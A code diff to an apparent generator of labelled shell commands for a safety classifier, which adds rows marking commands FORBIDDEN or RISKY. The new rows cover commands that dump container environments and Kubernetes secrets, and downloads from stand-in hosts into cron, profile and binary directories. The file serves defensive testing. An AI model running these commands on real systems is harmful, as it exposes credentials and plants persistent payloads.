@@ -122,8 +122,12 @@ def environment_class(rng: random.Random) -> Iterator[Row]:
             yield _row(reader.format(_q(f"/proc/{pid}/environ")), "FORBIDDEN", "environment", "a process's environment")
     for name in PLAIN_VARS:
         yield _row(f"printenv {name}", "RISKY", "environment", "not a secret name: printenv is unknown, a human decides")
-    for cmd in ("env LANG=C ls", "ps aux", "ps -ef", "ps -o pid,etime -p 1", "systemctl status nginx"):
-        yield _row(cmd, "RISKY", "environment", "no environment printed: a human decides")
+    for cmd in ("env LANG=C ls", "ps aux", "ps -ef", "ps -o pid,etime -p 1", "systemctl status nginx",
+                "docker inspect --format '{{.State.Status}}' web", "kubectl get secrets"):
+        yield _row(cmd, "RISKY", "environment", "no environment or secret data printed: a human decides")
+    for cmd in ("docker inspect --format '{{.Config.Env}}' web", "podman inspect -f '{{json .Config}}' c",
+                "kubectl get secret db -o yaml", "kubectl get secrets -o json", "oc get secret/x -ojsonpath='{.data}'"):
+        yield _row(cmd, "FORBIDDEN", "environment", "prints a container's environment or a secret's data")
 
 
 # --- persistence writes -------------------------------------------------------------------------------------
@@ -158,6 +162,9 @@ def persistence_class(rng: random.Random) -> Iterator[Row]:
                 yield _row(writer.format(d=dq, n=n), "FORBIDDEN", "persistence", f"a download named {n} lands in {d}")
             elif not plain.startswith(("/home", "/root")) or d.count("/") <= 2:
                 yield _row(writer.format(d=dq), "FORBIDDEN", "persistence", f"an archive extracted into {d}")
+    for cmd in ("aria2c -d /usr/local/bin -o kubectl https://x.example/k", "aria2c --dir=/etc/cron.d https://x.example/x",
+                "http --download -o /home/u/.bashrc https://x.example/p", "xh -o /etc/profile.d/x.sh https://x.example/p"):
+        yield _row(cmd, "FORBIDDEN", "persistence", "a download written onto a start-up or program location")
     for writer in ("tee /tmp/out.txt", "cp /tmp/x /tmp/y", "curl -o /tmp/x https://x.example/p", "wget -O /tmp/x https://x.example/p",
                    "tar -xzf /tmp/x.tgz -C /tmp/restore", "unzip /tmp/x.zip -d /tmp/u", "sed -i s/a/b/ /tmp/x.conf",
                    "tee /tmp/profile", "cp /etc/hosts /tmp/hosts.txt", "curl -O --output-dir /tmp https://x.example/report.pdf"):
